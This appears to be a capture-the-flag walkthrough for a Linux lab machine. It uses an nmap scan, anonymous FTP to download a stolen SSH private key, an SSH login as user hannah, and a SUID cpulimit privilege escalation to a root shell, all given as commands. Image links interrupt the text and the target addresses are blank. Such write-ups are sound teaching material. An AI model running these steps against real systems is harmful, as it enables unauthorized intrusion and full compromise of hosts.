sudo nmap -p- -sS -sV

21/tcp    open  ftp     vsftpd 3.0.3
61000/tcp open  ssh     OpenSSH 7.9p1 Debian 10+deb10u2 (protocol 2.0)
Service Info: OSs: Unix, Linux; CPE: cpe:/o:linux:linux_kernel

FTP on the host is open to anonymous login. When logged in use ls -la to view hidden files. Upon moving into the .hannah directory ensure binary mode isenabled then grab the id_rsa.

Ensure to change the permissions on the id_rsa to make it usable.

chmod 600 id_rsa

Then proceed to login as the user hannah specifying port 61000.

ssh -p 61000 -i id_rsa hannah@

Running linpeas on the target machine after transferring over finds the binary cpulimit has a SUID bit set.

Checking GTFOBins against this binary reports the following:

We can then use the following command to gain aroot shell:

/usr/bin/cpulimit -l 100 -f -- /bin/sh -p

Last updated